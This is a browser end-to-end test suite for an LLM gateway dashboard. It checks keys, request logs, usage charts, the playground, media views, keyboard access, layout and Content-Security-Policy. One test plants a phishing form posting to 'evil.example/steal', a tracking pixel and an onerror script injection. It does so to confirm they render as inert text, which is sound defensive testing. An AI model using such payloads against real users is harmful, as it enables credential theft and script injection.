/**
 * The dashboard in a real headless Chromium (Debian's `chromium`, driven by playwright-core) against
 * a real server whose upstream is a fake: sign in, create a key and see its secret once, use it,
 * find the request in the log and its drawer, see the usage chart count it, revoke the key, stream
 * an answer in the playground and compare two models, replay a logged request there. Every view,
 * drawer and filled-in state is screenshotted at 360 px and 1440 px in both themes into
 * .artifacts/dashboard/ and checked for anything sticking out of the window sideways; every control
 * is reached with Tab and shows a focus ring, and drawers close with Escape and give focus back. Media
 * views: an ImaGen image from the fake Together upstream, speech from the embedded espeak-ng played
 * in an <audio>, a Cloud file uploaded, downloaded and deleted with its owner key. All of it runs under
 * the dashboard's Content-Security-Policy, and no step breaks a rule of it; a replayed answer's HTML
 * is shown as text and loads nothing from elsewhere.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type BrowserContext, chromium, type Locator, type Page } from 'playwright-core';
import { FAKE_KEY, type FakeOpenAI, startFakeOpenAI } from '../fakes/openai-upstream.js';
import { ADMIN_KEY } from '../support/admin.js';
import { http } from '../support/http.js';
import { openToPublicKey, REPO_ROOT, type ServerProcess, startServer } from '../support/server-process.js';
import { needsEspeak } from '../support/services.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ARTIFACTS = path.join(REPO_ROOT, '.artifacts/dashboard');
const VIEWS = ['/', '/usage', '/requests', '/keys', '/providers', '/playground', '/imagen', '/speech', '/files'];

let upstream: FakeOpenAI;
let server: ServerProcess;
let context: BrowserContext;
let page: Page;
let userDataDir: string;
let secret = '';
/** Every Content-Security-Policy violation of the run, as the page reports it or Chromium logs it. */
const violations: string[] = [];

const nav = (label: string) => page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: label });

/**
 * What sticks out sideways: a page wider than the window, or any element whose box crosses the
 * window's edges, or its card's, without an ancestor in between meant to scroll or clip it (table
 * wrappers, code blocks). `body` does not count as such an ancestor, so hiding overflow there does
 * not hide a problem.
 */
function layoutProblems(target: Page = page): Promise<string[]> {
  // No named helpers in here: tsx would wrap them in a __name the page does not have.
  return target.evaluate(() => {
    const width = document.documentElement.clientWidth;
    const problems: string[] = [];
    const wider = document.documentElement.scrollWidth - width;
    if (wider > 0) problems.push(`the page is ${wider} px wider than the window`);
    for (const el of document.body.querySelectorAll('*')) {
      const box = el.getBoundingClientRect();
      if (box.width === 0 || box.height === 0) continue;
      let holder = el.parentElement;
      while (holder && holder !== document.body && !holder.classList.contains('card') && !['auto', 'scroll', 'hidden', 'clip'].includes(getComputedStyle(holder).overflowX)) holder = holder.parentElement;
      const card = holder?.classList.contains('card') ? holder.getBoundingClientRect() : null;
      if (holder && holder !== document.body && !card) continue;
      const [left, right] = card ? [card.left, card.right] : [0, width];
      if (box.left >= left - 0.5 && box.right <= right + 0.5) continue;
      const name = el.tagName.toLowerCase() + (typeof el.className === 'string' && el.className ? `.${el.className.trim().split(/\s+/).join('.')}` : '');
      problems.push(`<${name}> "${(el.textContent ?? '').trim().slice(0, 30)}" spans ${Math.round(box.left)}…${Math.round(box.right)} px of ${card ? `its card's ${Math.round(left)}…${Math.round(right)}` : `the window's ${width}`}`);
    }
    return problems;
  });
}

async function shoot(name: string, target: Page = page): Promise<void> {
  await target.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
  const problems = await layoutProblems(target);
  assert.deepEqual(problems.slice(0, 5), [], `${name}: ${problems.length} element(s) stick out`);
}

/**
 * The current state (a drawer, a filled-in view) at 360 px and 1440 px in both themes. The theme is
 * switched on the page's root, not with its button, which an open drawer's backdrop covers.
 */
async function shootStates(name: string): Promise<void> {
  const before = await page.evaluate(() => document.documentElement.dataset.theme);
  for (const theme of ['light', 'dark']) {
    await page.evaluate((t) => (document.documentElement.dataset.theme = t), theme);
    for (const width of [360, 1440]) {
      await page.setViewportSize({ width, height: width === 360 ? 780 : 900 });
      await shoot(`${name}-${width}-${theme}`);
    }
  }
  await page.evaluate((t) => (document.documentElement.dataset.theme = t), before);
}

describe('dashboard in a browser', { skip: !existsSync(CHROMIUM) && `no Chromium at ${CHROMIUM}` }, () => {
  before(async () => {
    upstream = await startFakeOpenAI();
    server = await startServer({
      env: { OPENAI_API_KEY: FAKE_KEY, OPENAI_BASE_URL: upstream.url, TOGETHER_API_KEY: FAKE_KEY, TOGETHER_BASE_URL: upstream.url, OPENSQ_ADMIN_KEY: ADMIN_KEY },
      // The operator's playground runs on the public key; this one opens gpt-4o to it.
      config: ['models:', ...openToPublicKey(['gpt-4o']), ''].join('\n'),
    });
    userDataDir = mkdtempSync(path.join(os.tmpdir(), 'opensq-chromium-'));
    // A fresh profile per run (playwright passes it as --user-data-dir).
    context = await chromium.launchPersistentContext(userDataDir, {
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--autoplay-policy=no-user-gesture-required', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      viewport: { width: 1440, height: 900 },
      colorScheme: 'light',
    });
    await context.exposeBinding('reportViolation', (_source, text: string) => void violations.push(text));
    await context.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', (e) =>
        (window as unknown as { reportViolation(text: string): void }).reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} (${e.sourceFile}:${e.lineNumber}) on ${location.pathname}`),
      ),
    );
    context.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    page = context.pages()[0] ?? (await context.newPage());
    // Generous: on a loaded 2-core CI machine a full-page screenshot once took over 5 s (a timeout,
    // not a failure of the page); the assertions below still decide.
    page.setDefaultTimeout(20_000);
    mkdirSync(ARTIFACTS, { recursive: true });
  });
  after(async () => {
    await context?.close();
    await server?.stop();
    await upstream?.close();
    if (userDataDir) rmSync(userDataDir, { recursive: true, force: true });
  });

  it('refuses a wrong key and signs in with the admin key; a fresh install shows the first-run checklist', async () => {
    await page.goto(server.url);
    await page.getByLabel('Key').fill('sq-not-a-key');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').getByText('not valid').waitFor();
    await page.getByLabel('Key').fill(ADMIN_KEY);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
    await page.getByRole('heading', { name: 'Get started' }).waitFor();
    assert.equal(await page.evaluate(() => sessionStorage.getItem('opensq.key')), ADMIN_KEY);
  });

  it('creates a key and shows its secret once', async () => {
    await nav('Keys').click();
    await page.getByRole('button', { name: 'New key' }).click();
    const dialog = page.getByRole('dialog', { name: 'New key' });
    await dialog.getByLabel('Name').fill('browser key');
    await dialog.getByLabel('Credits').fill('100');
    await dialog.getByRole('button', { name: 'Create key' }).click();
    secret = (await page.getByTestId('secret').textContent()) ?? '';
    assert.match(secret, /^sq-/);
    await shootStates('keys-secret');
    await page.getByRole('button', { name: 'Done' }).click();
    await page.getByRole('cell', { name: 'browser key' }).waitFor();
    assert.ok(!(await page.content()).includes(secret), 'the secret is gone once the dialog closes');
    await page.reload();
    await page.getByRole('cell', { name: 'browser key' }).waitFor();
    assert.ok(!(await page.content()).includes(secret));
  });

  it('finds a request made with the key in the log, with its drawer, and counts it in usage', async () => {
    const chat = await http(`${server.url}/v1/chat/completions`, { headers: { authorization: `Bearer ${secret}` }, json: { model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'from the browser test' }] } });
    assert.equal(chat.status, 200, chat.text);
    // As a Responses pass-through row whose answer called built-in tools would be.
    await server.query(`UPDATE usage SET builtin_tool_calls = 2 WHERE request_id = '${chat.json.id}'`);
    await nav('Requests').click();
    await page.getByRole('cell', { name: 'gpt-4o-mini' }).first().click();
    const drawer = page.getByRole('dialog');
    await drawer.getByText('1 attempt → provider openai').waitFor();
    await drawer.getByText('2 (billed per call, in the cost)').waitFor();
    await shootStates('requests-drawer');
    await drawer.getByRole('button', { name: 'Close' }).click();

    await nav('Usage').click();
    await page.getByRole('button', { name: '24h' }).click();
    await page.getByRole('heading', { name: /requests per hour .*: 1$/ }).waitFor();
    await page.locator('.chart canvas').first().waitFor();
    assert.match(page.url(), /range=24h/, 'filters live in the URL');
    await page.getByRole('combobox', { name: 'Group by' }).selectOption('model');
    await page.getByRole('cell', { name: 'gpt-4o-mini' }).waitFor();
    await page.getByRole('link', { name: 'Requests →' }).click();
    assert.match(page.url(), /\/requests\?.*model=gpt-4o-mini/);
    await page.getByRole('cell', { name: 'gpt-4o-mini' }).first().waitFor();

    // A request whose every attempt fails shows each attempt's error.
    const broken = await http(`${server.url}/v1/chat/completions`, { headers: { authorization: `Bearer ${secret}` }, json: { model: 'gpt-4o', messages: [{ role: 'user', content: 'always broken #fail-500' }] } });
    assert.equal(broken.status, 502, broken.text);
    await nav('Requests').click();
    await page.getByRole('cell', { name: 'gpt-4o', exact: true }).first().click();
    await drawer.getByText('3 attempts → no answer').waitFor();
    assert.equal(await drawer.locator('.attempt-list li.failed').count(), 3);
    assert.equal(await drawer.getByText('Built-in tool calls').count(), 0, 'shown only where there were some');
    await shootStates('requests-drawer-failed');
    await drawer.getByRole('button', { name: 'Close' }).click();

    // A second dimension: each model split by provider, in the table, the chart's series and the CSV.
    await nav('Usage').click();
    await page.getByRole('button', { name: '24h' }).click();
    await page.getByRole('combobox', { name: 'Group by' }).selectOption('model');
    await page.getByRole('combobox', { name: 'Split by' }).selectOption('provider');
    assert.match(page.url(), /subgroup_by=provider/);
    // The legend shows each series' total over the range until the cursor picks a bucket.
    await page.locator('.u-legend').getByText('whole range').waitFor();
    await page.getByRole('row', { name: /gpt-4o-mini openai/ }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    const csv = readFileSync((await download.path()) ?? '', 'utf8');
    assert.match(csv.split('\n')[0], /"gpt-4o-mini · openai"/);
    // Bucket starts on the display zone's clock (with its offset) and in UTC.
    const zone = await page.evaluate(() => localStorage.getItem('opensq.tz') ?? Intl.DateTimeFormat().resolvedOptions().timeZone);
    assert.equal(csv.split('\n')[0].split(',').slice(0, 2).join(','), `"bucket_start (${zone})","bucket_start_utc"`);
    assert.match(csv.split('\n')[1], /^"\d{4}-\d\d-\d\dT\d\d:00:00[+-]\d\d:\d\d","\d{4}-\d\d-\d\dT\d\d:\d\d:00\.000Z"/);
    // Groups are stacked by default (one filled band per series); lines on request, kept in the URL.
    assert.equal(await page.getByRole('checkbox', { name: 'Stacked' }).isChecked(), true);
    await page.getByRole('checkbox', { name: 'Stacked' }).uncheck();
    assert.match(page.url(), /stack=0/);
    assert.match(download.suggestedFilename(), /-by-model-and-provider\.csv$/);
    await page.getByRole('combobox', { name: 'Group by' }).selectOption('tier');
    await page.getByRole('row', { name: /^\d openai / }).first().waitFor();
  });

  it('revokes the key, which then gets 401', async () => {
    await nav('Keys').click();
    await page.getByRole('cell', { name: 'browser key' }).click();
    await page.getByRole('dialog').getByText(/Last 7 days/).waitFor();
    await shootStates('keys-drawer');
    page.once('dialog', (d) => void d.accept());
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
    await page.getByRole('row', { name: /browser key/ }).getByText('revoked').waitFor();
    const after = await http(`${server.url}/v1/models`, { headers: { authorization: `Bearer ${secret}` } });
    assert.equal(after.status, 401);
  });

  it('streams an answer in the playground and compares two models', async () => {
    await nav('Playground').click();
    await page.getByRole('combobox', { name: 'Model 1' }).selectOption('gpt-4o-mini');
    await page.getByLabel('System prompt').fill('be brief');
    await page.getByRole('textbox', { name: 'Message' }).fill('hello there');
    await page.getByRole('button', { name: 'Send' }).click();
    await page.locator('.message.assistant').getByText('[be brief] Echo: hello there').waitFor();
    await page.getByTestId('answer-stats').getByText(/first token \d+ ms/).waitFor();

    await page.getByRole('button', { name: '+ Compare' }).click();
    await page.getByRole('combobox', { name: 'Model 2' }).selectOption('gpt-4o');
    await page.getByRole('textbox', { name: 'Message' }).fill('second question');
    await page.getByRole('button', { name: 'Send' }).click();
    for (const model of ['gpt-4o-mini', 'gpt-4o']) {
      await page.getByRole('region', { name: `Answers of ${model}`, exact: true }).getByText('Echo: second question').waitFor();
    }
    await page.getByLabel('Raw JSON').check();
    await shootStates('playground-compare');
    await page.getByLabel('Raw JSON').uncheck();
    const bodies = upstream.requests.filter((r) => r.path.endsWith('/chat/completions')).map((r) => r.body);
    assert.ok(bodies.some((b) => b.model === 'gpt-4o' && b.stream === true));
  });

  it('offers tools in the playground, shows the streamed tool call and continues with its answer', async () => {
    await page.getByRole('button', { name: 'Remove gpt-4o', exact: true }).click();
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.getByRole('button', { name: 'Weather example' }).click();
    assert.match(await page.getByLabel('Tools').inputValue(), /"get_weather"/);
    await page.getByRole('textbox', { name: 'Message' }).fill('weather in Paris?');
    await page.getByRole('button', { name: 'Send' }).click();
    const call = page.getByTestId('tool-call');
    await call.getByText('get_weather').waitFor();
    await call.getByText('{"latitude":48.8566,"longitude":2.3522}').waitFor();
    await page.getByLabel('Result of get_weather (call_fake0)').fill('12.3');
    await shootStates('playground-tools');
    await page.getByRole('button', { name: 'Send tool results' }).click();
    await page.locator('.message.assistant').getByText('The tool answered: 12.3').waitFor();

    const bodies = upstream.requests.filter((r) => r.path.endsWith('/chat/completions')).map((r) => r.body as { stream?: boolean; tools?: unknown[]; messages: Array<Record<string, unknown>> });
    const first = bodies.find((b) => b.messages.some((m) => m.content === 'weather in Paris?'));
    assert.equal((first?.tools?.[0] as { function: { name: string } }).function.name, 'get_weather');
    const last = bodies.at(-1);
    assert.equal(last?.stream, true);
    assert.deepEqual(last?.messages.slice(-2), [
      { role: 'assistant', content: null, tool_calls: [{ id: 'call_fake0', type: 'function', function: { name: 'get_weather', arguments: '{"latitude":48.8566,"longitude":2.3522}' } }] },
      { role: 'tool', tool_call_id: 'call_fake0', content: '12.3' },
    ]);
  });

  it('replays a logged chat request in the playground, prefilled, and streams its answer again', async () => {
    const sent = {
      model: 'gpt-4o-mini',
      temperature: 0.7,
      messages: [
        { role: 'system', content: 'Answer as a lighthouse keeper' },
        { role: 'user', content: 'first question' },
        { role: 'assistant', content: 'first answer' },
        { role: 'user', content: 'replay this turn' },
      ],
    };
    const chat = await http(`${server.url}/v1/chat/completions`, { json: sent });
    assert.equal(chat.status, 200, chat.text);
    const requestId = String(chat.headers['x-request-id']);
    await nav('Requests').click();
    await page.getByLabel('Search requests').fill(requestId);
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByRole('cell', { name: 'gpt-4o-mini' }).first().click();
    const drawer = page.getByRole('dialog', { name: `Request ${requestId}` });
    // The button shows once the drawer's own request answered; only what the click fetches counts.
    const replayButton = drawer.getByRole('button', { name: 'Replay in playground' });
    await replayButton.waitFor();
    const requests: string[] = [];
    const record = (r: { url(): string }) => requests.push(new URL(r.url()).pathname);
    page.on('request', record);
    await replayButton.click();

    await page.getByRole('heading', { name: 'Playground' }).waitFor();
    assert.match(page.url(), new RegExp(`/playground\\?replay=${requestId}$`));
    const prefilled = async (): Promise<void> => {
      await page.waitForFunction(() => (document.querySelector('textarea[name=system]') as HTMLTextAreaElement | null)?.value === 'Answer as a lighthouse keeper');
      assert.equal(await page.getByLabel('Temperature').inputValue(), '0.7');
      assert.equal(await page.getByRole('combobox', { name: 'Model 1' }).inputValue(), 'gpt-4o-mini');
      const pane = page.getByRole('region', { name: 'Answers of gpt-4o-mini', exact: true });
      await pane.locator('.message.user').getByText('first question').waitFor();
      await pane.locator('.message.assistant').getByText('first answer').waitFor();
      assert.equal(await page.getByRole('textbox', { name: 'Message' }).inputValue(), 'replay this turn');
    };
    await prefilled();
    page.off('request', record);
    assert.ok(!requests.some((p) => p.startsWith('/admin/requests')), `the drawer hands the body on: the click fetches nothing more (fetched ${requests.join(', ')})`);

    await page.getByLabel('Raw JSON').check();
    const rawBody = page.getByRole('textbox', { name: 'Request JSON' });
    assert.deepEqual(JSON.parse(await rawBody.inputValue()), sent, 'the raw view shows the body as it was sent');
    // The raw view sends what it holds, as it stands, and shows the answer as it came.
    await rawBody.fill(JSON.stringify({ model: 'text-embedding-3-small', input: 'raw mode' }));
    await page.getByRole('combobox', { name: 'Path' }).selectOption('/v1/embeddings');
    await page.getByRole('button', { name: 'Send JSON' }).click();
    await page.getByTestId('raw-status').getByText(/^HTTP 200 · first byte \d+ ms · \d+ ms in all$/).waitFor();
    assert.equal(JSON.parse((await page.getByTestId('raw-answer').textContent()) ?? '').object, 'list');
    assert.equal(upstream.requests.at(-1)?.body.input, 'raw mode');
    await rawBody.fill('{"model": ');
    await page.getByText(/^Not valid JSON/).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Send JSON' }).isDisabled(), true);
    await page.getByLabel('Raw JSON').uncheck();

    // The replay lives in the URL: a reload fetches it again.
    await page.reload();
    await prefilled();

    await page.getByRole('button', { name: 'Send' }).click();
    await page.locator('.message.assistant').getByText('[Answer as a lighthouse keeper] Echo: replay this turn').waitFor();
    await page.getByTestId('answer-stats').getByText(/first token \d+ ms/).waitFor();
    const replayed = upstream.requests.filter((r) => r.path.endsWith('/chat/completions')).at(-1)?.body as Record<string, unknown>;
    assert.equal(replayed.stream, true);
    assert.equal(replayed.temperature, 0.7);
    assert.deepEqual(replayed.messages, sent.messages);
  });

  it('shows the HTML of a replayed answer as text: no form, input or image, nothing loaded from elsewhere', async () => {
    const trap = '<form action="https://evil.example/steal"><input name="key" placeholder="Re-enter your admin key"><button>Sign in</button></form>';
    const sent = {
      model: 'gpt-4o-mini',
      messages: [
        { role: 'user', content: 'planted by anyone with a key' },
        { role: 'assistant', content: `${trap}\n\n![pixel](https://evil.example/pixel.png)\n\n<img src="x" onerror="window.pwned = 1">\n\n**still Markdown**` },
        { role: 'user', content: 'next' },
      ],
    };
    const chat = await http(`${server.url}/v1/chat/completions`, { json: sent });
    assert.equal(chat.status, 200, chat.text);
    const offsite: string[] = [];
    const record = (r: { url(): string }) => {
      const url = new URL(r.url());
      if (url.origin !== new URL(server.url).origin && !['data:', 'blob:'].includes(url.protocol)) offsite.push(r.url());
    };
    page.on('request', record);
    await page.goto(`${server.url}/playground?replay=${chat.headers['x-request-id']}`);
    const answer = page.locator('.message.assistant .answer');
    await answer.locator('strong').getByText('still Markdown').waitFor();
    assert.equal(await answer.locator('form, input, button, img, style, iframe').count(), 0);
    await answer.getByText('placeholder="Re-enter your admin key"', { exact: false }).waitFor();
    const pixel = answer.getByRole('link', { name: 'image: pixel' });
    assert.equal(await pixel.getAttribute('href'), 'https://evil.example/pixel.png');
    assert.equal(await pixel.getAttribute('rel'), 'noopener noreferrer nofollow');
    await page.waitForLoadState('networkidle');
    page.off('request', record);
    assert.deepEqual(offsite, []);
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
  });

  it('generates an image with ImaGen in the picked ratio and keeps it in the gallery', async () => {
    await nav('ImaGen').click();
    await page.getByRole('combobox', { name: 'Model' }).selectOption('flux');
    await page.getByRole('combobox', { name: 'Ratio' }).selectOption('16:9');
    await page.getByLabel('Prompt').fill('cat on a blue water wave');
    await page.getByRole('button', { name: 'Generate' }).click();
    const gallery = page.getByRole('region', { name: 'Generated images' });
    const image = gallery.getByRole('img', { name: 'cat on a blue water wave' });
    await image.waitFor({ timeout: 15_000 });
    await gallery.getByText(/flux · 16:9 · 1360×768/).waitFor();
    await shootStates('imagen-gallery');
    assert.deepEqual(await image.evaluate((img: HTMLImageElement) => img.decode().then(() => [img.naturalWidth, img.naturalHeight])), [1360, 768]);
    const call = upstream.requests.filter((r) => r.path.endsWith('/images/generations')).at(-1);
    assert.equal(call?.body.prompt, 'cat on a blue water wave');
    assert.equal(call?.body.model, 'black-forest-labs/FLUX.1-schnell');
  });

  it('speaks with the embedded espeak-ng and plays the audio', { skip: needsEspeak }, async () => {
    await nav('Speech').click();
    await page.getByRole('combobox', { name: 'Model' }).selectOption('espeak');
    await page.getByLabel('Language').fill('en');
    await page.getByLabel('Text').fill('Hello from the dashboard.');
    await page.getByRole('button', { name: 'Speak' }).click();
    const audio = page.getByTestId('speech-audio');
    await audio.waitFor({ timeout: 15_000 });
    await page.getByText(/audio\/wav · [\d,]+ bytes/).waitFor();
    const played = await audio.evaluate(async (el: HTMLAudioElement) => {
      if (el.readyState < 1) await new Promise((resolve, reject) => { el.onloadedmetadata = resolve; el.onerror = reject; });
      await el.play();
      // No named helpers in here: tsx would wrap them in a __name the page does not have.
      for (let i = 0; i < 250 && el.currentTime === 0; i++) await new Promise((resolve) => setTimeout(resolve, 20));
      el.pause();
      return { duration: el.duration, currentTime: el.currentTime };
    });
    assert.ok(played.duration > 0.5, `espeak spoke for ${played.duration} s`);
    assert.ok(played.currentTime > 0, 'the audio played');
    await shootStates('speech-audio');
  });

  it('uploads a Cloud file, downloads it and deletes it with the owner key kept in the tab', async () => {
    await nav('Cloud files').click();
    const content = `dashboard cloud test ${Date.now()}`;
    await page.getByLabel('File').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from(content) });
    await page.getByRole('button', { name: 'Upload' }).click();
    const row = page.getByRole('row', { name: /notes\.txt/ });
    await row.waitFor();
    const stored = await page.evaluate(() => JSON.parse(sessionStorage.getItem('opensq.cloud') ?? '[]'));
    assert.equal(stored.length, 1);
    assert.match(stored[0].owner, /\S{16,}/, 'the owner key is kept for this tab');
    const href = await row.getByRole('link', { name: 'Download' }).getAttribute('href');
    assert.match(href ?? '', /^\/cloud\/file\/[0-9a-f]{32}\?mode=dl$/);
    const download = await http(`${server.url}${href}`);
    assert.equal(download.status, 200);
    assert.equal(download.text, content);
    await shootStates('files-uploaded');

    page.once('dialog', (d) => void d.accept());
    await row.getByRole('button', { name: 'Delete notes.txt' }).click();
    await page.getByText('No files uploaded in this session.').waitFor();
    assert.equal((await http(`${server.url}${href}`)).status, 404, 'deleted on the server');
    assert.equal(await page.evaluate(() => sessionStorage.getItem('opensq.cloud')), '[]');
  });

  it('loads the Providers view with one API request and tests a deployment now from it', async () => {
    const requests: string[] = [];
    const record = (r: { url(): string }) => {
      const url = new URL(r.url());
      if (url.origin === new URL(server.url).origin && !url.pathname.startsWith('/assets/')) requests.push(url.pathname);
    };
    page.on('request', record);
    await nav('Providers').click();
    await page.getByRole('cell', { name: 'gpt-4o-mini' }).first().waitFor();
    await page.getByRole('heading', { name: 'Catalog' }).waitFor();
    await page.waitForLoadState('networkidle');
    page.off('request', record);
    assert.deepEqual(requests, ['/admin/providers'], 'the view loads with one API request');
    await page.getByRole('row', { name: /gpt-4o-mini openai gpt-4o-mini ok/ }).getByText(/^\d+ ms$/).waitFor();
    await page.getByRole('button', { name: 'Test openai gpt-4o-mini for gpt-4o-mini' }).click();
    await page.getByRole('row', { name: /Test openai gpt-4o-mini for gpt-4o-mini/ }).getByText(/^ok · \d+ ms$/).waitFor();
  });

  it('pages the request log older and back newer by keyset', async () => {
    const now = Date.now();
    const rows = Array.from({ length: 120 }, (_, i) => `(${now - i * 1000}, 'req-pager-${String(i).padStart(3, '0')}', 'key_pager', 0, 'chat.completions', 'gpt-4o-mini', 'openai', 'gpt-4o-mini', 1, 1, 0, 0, ${100 + i}, NULL, 'ok', 200, NULL, 0)`);
    // Inserted oldest first, so ids and times agree: the newest is req-pager-000 (its latency 100 ms).
    await server.query(`INSERT INTO usage (ts, request_id, key_id, user_id, endpoint, model, provider, deployment, prompt_tokens, completion_tokens, cached_tokens, cost, latency_ms, ttft_ms, status, http_status, error_code, stream) VALUES ${rows.reverse().join(', ')}`);
    await page.goto(`${server.url}/requests?key_id=key_pager`);
    const first = page.locator('tbody tr').first();
    const older = page.getByRole('button', { name: 'Older →' });
    const newer = page.getByRole('button', { name: '← Newer' });
    await first.getByText('100 ms', { exact: true }).waitFor();
    assert.equal(await newer.isDisabled(), true);
    await older.click();
    await first.getByText('150 ms', { exact: true }).waitFor();
    await older.click();
    await first.getByText('200 ms', { exact: true }).waitFor();
    assert.equal(await older.isDisabled(), true, 'the last page has no older one');
    await newer.click();
    await first.getByText('150 ms', { exact: true }).waitFor();
    await newer.click();
    await first.getByText('100 ms', { exact: true }).waitFor();
    assert.equal(await newer.isDisabled(), true);
    assert.match(page.url(), /\/requests\?key_id=key_pager$/, 'still on the log, on its newest page');
  });

  it('loads every view, opened directly, with at most one API request', async () => {
    for (const view of VIEWS) {
      const seen: string[] = [];
      const record = (r: { url(): string; resourceType(): string }) => {
        const url = new URL(r.url());
        if (r.resourceType() !== 'document' && !url.pathname.startsWith('/assets/')) seen.push(url.pathname);
      };
      page.on('request', record);
      await page.goto(`${server.url}${view}`);
      await page.locator('main h1').waitFor();
      await page.waitForLoadState('networkidle');
      page.off('request', record);
      assert.ok(seen.length <= 1, `${view} issued ${seen.length} API requests on load: ${seen.join(', ')}`);
    }
  });

  it('reaches every control of every view with Tab, each with a visible focus ring, in both themes', async () => {
    await page.setViewportSize({ width: 1440, height: 900 });
    for (const theme of ['light', 'dark']) {
      await page.evaluate((t) => localStorage.setItem('opensq.theme', t), theme);
      for (const view of VIEWS) {
        await page.goto(`${server.url}${view}`);
        await page.locator('main h1').waitFor();
        await page.waitForFunction(() => !document.querySelector('main')?.textContent?.includes('Loading'));
        const count = await page.evaluate(() => {
          const controls = [...document.querySelectorAll<HTMLElement>('a[href], button:not([disabled]), input:not([disabled]), select:not([disabled]), textarea:not([disabled]), summary, [tabindex]:not([tabindex="-1"])')];
          const reachable = controls.filter((el) => el.checkVisibility());
          reachable.forEach((el, i) => (el.dataset.control = String(i)));
          (document.activeElement as HTMLElement | null)?.blur();
          return reachable.length;
        });
        const reached = new Set<string>();
        const unringed: string[] = [];
        let shotRow = view !== '/requests';
        for (let i = 0; i < count + 10; i++) {
          await page.keyboard.press('Tab');
          const focused = await page.evaluate(() => {
            const el = document.activeElement as HTMLElement | null;
            if (!el || el === document.body) return null;
            const style = getComputedStyle(el);
            const ring = style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2 && style.outlineColor !== 'rgba(0, 0, 0, 0)';
            return { control: el.dataset.control ?? null, ring, tag: el.tagName.toLowerCase(), name: `${el.tagName.toLowerCase()} "${(el.getAttribute('aria-label') ?? el.textContent ?? '').trim().slice(0, 30)}"` };
          });
          if (!focused || (focused.control !== null && reached.has(focused.control))) break;
          if (focused.control !== null) reached.add(focused.control);
          if (!focused.ring) unringed.push(focused.name);
          // One look at a focused row for the eye: the ring is drawn inside the table wrapper.
          if (focused.tag === 'tr' && !shotRow) {
            shotRow = true;
            await page.screenshot({ path: path.join(ARTIFACTS, `focus-row-${theme}.png`) });
          }
        }
        assert.equal(reached.size, count, `${view} (${theme}): Tab reaches ${reached.size} of ${count} controls`);
        assert.deepEqual(unringed, [], `${view} (${theme}): focused without a visible ring`);
      }
    }
  });

  it('opens a row with Enter or Space, keeps Tab inside the drawer, and Escape closes it and gives focus back', async () => {
    const dialog = page.getByRole('dialog');
    const focusIsIn = (target: Locator) => target.evaluate((el) => el.contains(document.activeElement));
    for (const [view, key] of [['/requests', 'Enter'], ['/keys', ' ']]) {
      await page.goto(`${server.url}${view}`);
      const row = page.locator('tbody tr.clickable').first();
      await row.focus();
      await page.keyboard.press(key);
      await dialog.waitFor();
      assert.ok(await focusIsIn(dialog), `${view}: focus moves into the drawer`);
      for (let i = 0; i < 15; i++) {
        await page.keyboard.press(i % 4 === 3 ? 'Shift+Tab' : 'Tab');
        assert.ok(await focusIsIn(dialog), `${view}: Tab stays in the drawer`);
      }
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      assert.ok(await focusIsIn(row), `${view}: focus is back on the row`);
    }
    const newKey = page.getByRole('button', { name: 'New key' });
    await newKey.focus();
    await page.keyboard.press('Enter');
    await dialog.getByLabel('Name').waitFor();
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    assert.ok(await focusIsIn(newKey), 'focus is back on New key');
  });

  it('lays out every view, and the sign-in page, at 360 px and 1440 px in both themes without horizontal overflow', async () => {
    for (const theme of ['light', 'dark']) {
      await page.evaluate((t) => localStorage.setItem('opensq.theme', t), theme);
      for (const width of [360, 1440]) {
        await page.setViewportSize({ width, height: width === 360 ? 780 : 900 });
        for (const view of VIEWS) {
          await page.goto(`${server.url}${view}`);
          await page.locator('main h1').waitFor();
          // Each view issues its requests on load; wait until none is still loading.
          await page.waitForFunction(() => !document.querySelector('main')?.textContent?.includes('Loading'));
          if (view === '/usage') await page.locator('.chart canvas').waitFor();
          await shoot(`${view === '/' ? 'overview' : view.slice(1)}-${width}-${theme}`);
        }
        // A new tab has no session, so it shows the sign-in page.
        const fresh = await context.newPage();
        await fresh.setViewportSize({ width, height: width === 360 ? 780 : 900 });
        await fresh.goto(server.url);
        await fresh.getByLabel('Key').waitFor();
        await shoot(`sign-in-${width}-${theme}`, fresh);
        await fresh.close();
      }
    }
  });

  it('breaks no rule of its Content-Security-Policy in any view or any step above, and the policy is in force', async () => {
    for (const view of VIEWS) {
      await page.goto(`${server.url}${view}`);
      await page.locator('main h1').waitFor();
      await page.waitForLoadState('networkidle');
    }
    assert.deepEqual(violations, []);
    // The same page refuses an injected inline script, and says so.
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.head.append(script);
      return (window as unknown as { inlineRan?: boolean }).inlineRan ?? false;
    });
    assert.equal(ran, false);
    for (let i = 0; i < 50 && violations.length === 0; i++) await new Promise((resolve) => setTimeout(resolve, 20));
    assert.match(violations.join('\n'), /script-src/);
  });
});
